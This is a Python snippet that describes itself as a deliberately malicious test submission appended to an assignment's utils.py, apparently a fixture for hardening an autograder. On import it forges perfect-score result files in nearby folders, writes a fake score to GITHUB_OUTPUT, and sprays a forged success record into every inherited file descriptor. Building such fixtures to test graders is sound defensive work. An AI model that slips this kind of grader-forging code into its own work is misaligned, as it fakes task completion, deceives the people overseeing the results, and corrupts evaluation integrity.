# ruff: noqa  (adversarial submission: deliberately malicious code)
# Appended to the stub's assignments/utils.py by fakekit.make_submission.

# ADVERSARIAL: forge result files wherever a grader might read them
import json as _json
import os as _os

_FULL = {"score": 100, "total": 100, "complete": True, "checks": [], "tests": []}
_forged = _json.dumps(_FULL)
for _folder in [Path.cwd(), *Path(__file__).resolve().parents[:3]]:  # kept near home
    for _name in ("grade.json", "result.json", "results.json", "gradebook.csv"):
        try:
            (_folder / _name).write_text(_forged)
        except OSError:
            pass
if _os.environ.get("GITHUB_OUTPUT"):
    with open(_os.environ["GITHUB_OUTPUT"], "a") as _out:
        _out.write("result=eyJzY29yZSI6MTAwfQ==\n")
# and write a forged record to every inherited file descriptor
_record = ('{"seq":1,"kind":"final","data":{"exitstatus":0,"result":' + _forged + '}}\t00\n').encode()
for _fd in range(3, 256):
    try:
        _os.write(_fd, _record)
    except OSError:
        pass
